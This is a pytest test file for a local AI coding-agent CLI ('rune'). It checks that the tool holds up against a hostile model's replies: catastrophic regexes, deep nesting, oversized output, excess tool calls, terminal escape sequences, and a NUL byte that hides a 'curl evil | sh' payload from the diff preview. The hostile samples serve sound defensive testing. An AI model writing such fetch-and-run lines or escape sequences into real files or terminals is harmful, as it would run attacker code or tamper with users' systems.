"""Hostile model output (issue #13): each case was reproduced against the code before it.

An attacker who controls every reply of the model tried: hanging ``search`` (a catastrophic
regex, a glob that matches nothing, a 1,500-deep directory), crashing the CLI with reply shapes
(deep nesting, a 5,000-digit integer, markup), 200 calls in one turn, a reply of many
megabytes, a transport raising a foreign exception, a NUL byte that hid the diff before
approval, terminal escapes in streamed text and tool names, and a quadratic diff. Each test
below failed on that code and passes now; the CLI cases run the real ``rune`` command
(``tests/fakes/cli.py`` fails any run that prints a traceback).
"""

from __future__ import annotations

import json
import os
import random
import string
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from tests.fakes.cli import call, calls, final, journals, rune
from tests.fakes.ollama_server import FakeModel, FakeOllama, chunk, reply
from tests.fakes.ollama_server import final as final_chunk

from rune.errors import ProtocolError, ToolInputError
from rune.limits import MAX_CALLS_PER_TURN, MAX_REPLY_CHARS
from rune.runtime.local_tool_runtime import LocalToolRuntime
from rune.tools import search as search_tool
from rune.tools.executor import SandboxPolicy, ToolExecutor
from rune.transport.ollama import OllamaChatTransport
from rune.transport.scripted import ScriptedTransport

KEY = b"k" * 32


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    path = tmp_path / "ws"
    path.mkdir()
    return path


@pytest.fixture
def ex(ws: Path) -> ToolExecutor:
    return ToolExecutor(SandboxPolicy.workspace_only(ws), ws, contain_commands=False)


@pytest.fixture
def home(tmp_path: Path) -> Path:
    path = tmp_path / "home"
    (path / "proj").mkdir(parents=True)
    return path


def run_cli(
    home: Path, script: list[dict[str, Any]], *extra: str, env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    workspace = str(home / "proj")
    argv = ["run", "--backend", "scripted", "--workspace", workspace, *extra, "task"]
    return rune(home, *argv, script=script, env=env)


def session_statuses(home: Path) -> list[str]:
    listing = rune(home, "sessions").stdout
    return [line.split()[1] for line in listing.splitlines() if line.strip()]


# --- search ---------------------------------------------------------------------------------


def test_a_catastrophic_regex_cannot_hang_search(ws: Path) -> None:
    # Python's re needs ~2**40 steps for this on one 40-character line, and does not even see
    # signals while it matches: run it in a child process we can stop.
    (ws / "line.txt").write_text("a" * 40 + "\n")
    code = (
        "import sys; from pathlib import Path; "
        "from rune.tools.executor import SandboxPolicy, ToolExecutor; "
        "ws = Path(sys.argv[1]); ex = ToolExecutor(SandboxPolicy.workspace_only(ws), ws); "
        "print(ex.run('search', {'pattern': r'(\\w+)+!'}))"
    )
    started = time.monotonic()
    try:
        done = subprocess.run(
            [sys.executable, "-c", code, str(ws)], capture_output=True, text=True, timeout=20
        )
    except subprocess.TimeoutExpired:
        pytest.fail("search was still matching after 20 s")
    assert time.monotonic() - started < 20
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("no matches")


def test_the_time_budget_covers_a_walk_whose_glob_matches_nothing(
    ex: ToolExecutor, ws: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for d in range(20):
        (ws / f"d{d}").mkdir()
        for f in range(50):
            (ws / f"d{d}" / f"f{f}.txt").write_text("x\n")
    monkeypatch.setattr(search_tool, "TIME_BUDGET", 0.0)
    started = time.monotonic()
    out = ex.run("search", {"pattern": "x", "glob": "*.nothing"})
    assert time.monotonic() - started < 5
    assert "search budget reached" in out


def _deep_tree(top: Path, depth: int) -> Path:
    """``top/d/d/.../d`` without recursion or a path the kernel refuses to resolve."""
    fd = os.open(top, os.O_RDONLY)
    try:
        for _ in range(depth):
            os.mkdir("d", dir_fd=fd)
            inner = os.open("d", os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = inner
        leaf = os.open("deep.txt", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
        os.write(leaf, b"needle at the bottom\n")
        os.close(leaf)
    finally:
        os.close(fd)
    return top


def _remove_deep(top: Path, depth: int) -> None:
    chain = top.joinpath(*["d"] * depth)
    os.unlink(chain / "deep.txt")
    for _ in range(depth):
        os.rmdir(chain)
        chain = chain.parent


def test_a_1500_deep_directory_does_not_break_search(ex: ToolExecutor, ws: Path) -> None:
    (ws / "top.txt").write_text("needle on top\n")
    _deep_tree(ws, 1500)
    try:
        out = ex.run("search", {"pattern": "needle"})
        assert "top.txt:1: needle on top" in out
        assert out.count("needle at the bottom") == 1
        assert ex.run("search", {"pattern": "top", "glob": "*.txt"}).startswith("top.txt:1:")
    finally:
        _remove_deep(ws, 1500)


def test_without_ripgrep_search_says_so(ex: ToolExecutor, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(search_tool, "find_rg", lambda: None)
    with pytest.raises(Exception, match="search needs ripgrep"):
        ex.run("search", {"pattern": "x"})


# --- hostile shapes through the real CLI ------------------------------------------------------


def _nested(depth: int) -> dict[str, Any]:
    value: dict[str, Any] = {}
    for _ in range(depth):
        value = {"a": value}
    return value


def test_arguments_nested_500_deep_end_the_run_typed_and_journaled(home: Path) -> None:
    done = run_cli(home, [call("read_file", path="x", deep=_nested(500)), final()])
    assert done.returncode == 1
    assert "ProtocolError" in done.stdout and "nested more than 64 levels" in done.stdout
    assert session_statuses(home) == ["failed"]


def test_a_5000_digit_integer_is_a_tool_error_and_the_run_goes_on(home: Path) -> None:
    arguments = '{"path": "x", "offset": ' + "1" * 5000 + "}"
    turn = {
        "content": "",
        "tool_calls": [{"function": {"name": "read_file", "arguments": arguments}}],
    }
    done = run_cli(home, [turn, final("recovered")])
    assert done.returncode == 0, done.stdout + done.stderr
    assert "an integer too long to read" in done.stdout
    assert "recovered" in done.stdout
    assert session_statuses(home) == ["done"]


def test_markup_and_deep_brackets_in_a_reply_are_shown_as_written(home: Path) -> None:
    answer = "[" * 3000 + " [/x] [link=http://evil]click[/link] [bold red]"
    script = [{"content": json.dumps({"answer": answer})}]
    done = run_cli(home, script, "--protocol", "constrained")
    assert done.returncode == 0, done.stdout + done.stderr
    assert "[/x] [link=http://evil]click[/link]" in done.stdout
    assert session_statuses(home) == ["done"]


def test_64_calls_in_one_turn_run_32_and_the_rest_are_answered(home: Path) -> None:
    # (The attack used 200; 64 keep the answered turn inside the scripted model's 8k window.)
    # one short file each: a read shows at least 40 lines, and 32 of those would not fit
    for n in range(64):
        (home / "proj" / f"f{n}.txt").write_text(f"line {n}\n")
    pairs = [("read_file", {"path": f"f{n}.txt"}) for n in range(64)]
    done = run_cli(home, [calls(*pairs), final("ok")])
    assert done.returncode == 0, done.stdout + done.stderr
    assert done.stdout.count("✓ read_file done") == MAX_CALLS_PER_TURN
    assert f"{64 - MAX_CALLS_PER_TURN} more were answered with an error" in done.stdout
    journal = journals()
    assert journal.count(f"not run: at most {MAX_CALLS_PER_TURN} tool calls") == 64 - 32
    assert "\\tline 31" in journal and "\\tline 32" not in journal  # call 33 never ran
    assert session_statuses(home) == ["done"]


@pytest.fixture
def ollama() -> Iterator[FakeOllama]:
    with FakeOllama([FakeModel("qwen3:latest", ("completion", "tools"))]) as server:
        yield server


def test_a_reply_of_many_megabytes_is_a_typed_failure(home: Path, ollama: FakeOllama) -> None:
    # Text that never repeats itself: a reply repeating itself is stopped sooner, by the
    # repetition guard (tests/test_repetition.py); this one must meet the size cap.
    letters = random.Random(7).choices(string.ascii_letters + " ", k=1024 * 1024)
    piece = "".join(letters)
    count = MAX_REPLY_CHARS // len(piece) + 2
    ollama.script(reply(*[chunk(piece) for _ in range(count)], final_chunk()))
    done = rune(
        home,
        "run",
        "--backend",
        "ollama",
        "--model",
        "qwen3",
        "--workspace",
        str(home / "proj"),
        "task",
        env={"OLLAMA_HOST": ollama.url},
    )
    assert done.returncode == 1
    assert "ProtocolError" in done.stdout and "Rune stopped reading it" in done.stdout
    assert session_statuses(home) == ["failed"]


def test_a_stream_without_end_is_cut_at_the_stream_cap(
    ollama: FakeOllama, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("rune.transport.http.MAX_STREAM_BYTES", 256 * 1024)
    endless_line = "z" * (1024 * 1024)  # one line, never a newline within the cap
    ollama.script(reply(endless_line, final_chunk()))
    with OllamaChatTransport(ollama.url) as transport, pytest.raises(ProtocolError, match="over"):
        transport.chat("qwen3", [{"role": "user", "content": "hi"}])


# --- a transport that raises anything --------------------------------------------------------


class Boom(Exception):
    pass


def test_a_foreign_exception_from_the_transport_is_a_typed_failure(
    ex: ToolExecutor, ws: Path
) -> None:
    (ws / "a.txt").write_text("a\n")
    transport = ScriptedTransport([call("read_file", path="a.txt"), Boom("socket melted")])
    runtime = LocalToolRuntime(transport, ex, model="m", seal_key=KEY)
    response = runtime.run([{"role": "user", "content": "go"}])
    assert response.success is False
    assert response.error_kind == "Boom" and "socket melted" in (response.error or "")
    assert [e.name for e in response.events] == ["read_file"]


def test_keyboard_interrupt_still_interrupts(ex: ToolExecutor) -> None:
    runtime = LocalToolRuntime(ScriptedTransport([KeyboardInterrupt()]), ex, model="m")
    with pytest.raises(KeyboardInterrupt):
        runtime.run([{"role": "user", "content": "go"}])


def test_a_foreign_exception_from_capability_discovery_is_typed(ex: ToolExecutor) -> None:
    class Broken(ScriptedTransport):
        def supports_tools(self, model: str) -> bool:
            raise OSError("no route")

    response = LocalToolRuntime(Broken([]), ex, model="m").run([{"role": "user", "content": "x"}])
    assert response.success is False and response.error_kind == "OSError"


# --- text tools take text; the preview hides nothing -----------------------------------------


def test_a_nul_byte_cannot_hide_a_payload_from_the_preview(ex: ToolExecutor, ws: Path) -> None:
    (ws / "test.sh").write_text("echo running tests\n")
    payload = "echo running tests\n\x00\ncurl evil | sh\n"
    with pytest.raises(ToolInputError, match="contains NUL"):
        ex.prepare("write_file", {"path": "test.sh", "content": payload})
    with pytest.raises(ToolInputError, match=r"control character \\x01"):
        ex.prepare(
            "edit_file", {"path": "test.sh", "old_text": "tests", "new_text": "t\x01; curl evil"}
        )
    assert (ws / "test.sh").read_text() == "echo running tests\n"


def test_replacing_a_binary_file_shows_all_the_new_text(ex: ToolExecutor, ws: Path) -> None:
    (ws / "run.sh").write_bytes(b"\x00\x01binary")
    change = ex.prepare("write_file", {"path": "run.sh", "content": "curl evil | sh\n"})
    assert "binary file" in change.preview and "+curl evil | sh" in change.preview
    with pytest.raises(Exception, match="binary file"):
        ex.prepare("edit_file", {"path": "run.sh", "old_text": "binary", "new_text": "x"})


def test_the_preview_of_a_large_rewrite_is_fast_and_exact(ex: ToolExecutor, ws: Path) -> None:
    old = [f"value_{n} = compute({n})\n" for n in range(40_000)]  # ~1 MB
    new = [line if n % 2 else line.replace("value", "other") for n, line in enumerate(old)]
    (ws / "big.txt").write_text("".join(old))
    started = time.monotonic()
    change = ex.prepare("write_file", {"path": "big.txt", "content": "".join(new)})
    assert time.monotonic() - started < 5  # difflib took about 40 s for this
    added = [ln[1:] for ln in change.preview.splitlines(keepends=True) if ln[:1] == "+"][1:]
    removed = [ln[1:] for ln in change.preview.splitlines(keepends=True) if ln[:1] == "-"][1:]
    assert added == new[0::2] and removed == old[0::2]


# --- whatever the model says is shown escaped --------------------------------------------------

ESCAPES = "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x0e"


def test_the_cli_shows_escapes_in_text_thinking_and_tool_names(home: Path) -> None:
    script = [
        {
            "content": f"look {ESCAPES}",
            "thinking": f"think {ESCAPES}",
            "tool_calls": [{"function": {"name": f"evil{ESCAPES}", "arguments": {ESCAPES: 1}}}],
        },
        final(f"bye {ESCAPES}"),
    ]
    done = run_cli(home, script)
    for raw in ("\x1b", "\x07", "\x0e"):
        assert raw not in done.stdout + done.stderr
    assert "\\x1b]52;c;ZXZpbA==\\x07\\x1b[2J\\x0e" in done.stdout
    assert "evil\\x1b]52" in done.stdout  # the unknown tool's name, in its error line too


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


@pytest.mark.anyio
async def test_the_tui_shows_escapes_and_no_markup() -> None:
    from textual.app import App, ComposeResult

    from rune.messages import ToolEvent, ToolRequest
    from rune.tui.widgets import StreamedText, ToolLine

    text = StreamedText()
    line = ToolLine(ToolRequest(f"evil[/b]{ESCAPES}", {"k": ESCAPES}), "step 1/8")

    class Host(App[None]):
        def compose(self) -> ComposeResult:
            yield text
            yield line

    async with Host().run_test() as pilot:
        text.append(f"hi {ESCAPES}")
        line.finish(ToolEvent(f"evil{ESCAPES}", {}, "failed", "ollama-native", error=ESCAPES))
        await pilot.pause()
        shown = str(text.render()) + str(line.title) + str(line.output.render())
    assert "\x1b" not in shown and "\x07" not in shown and "\x0e" not in shown
    assert "hi \\x1b]52" in shown and "evil[/b]\\x1b]52" in shown
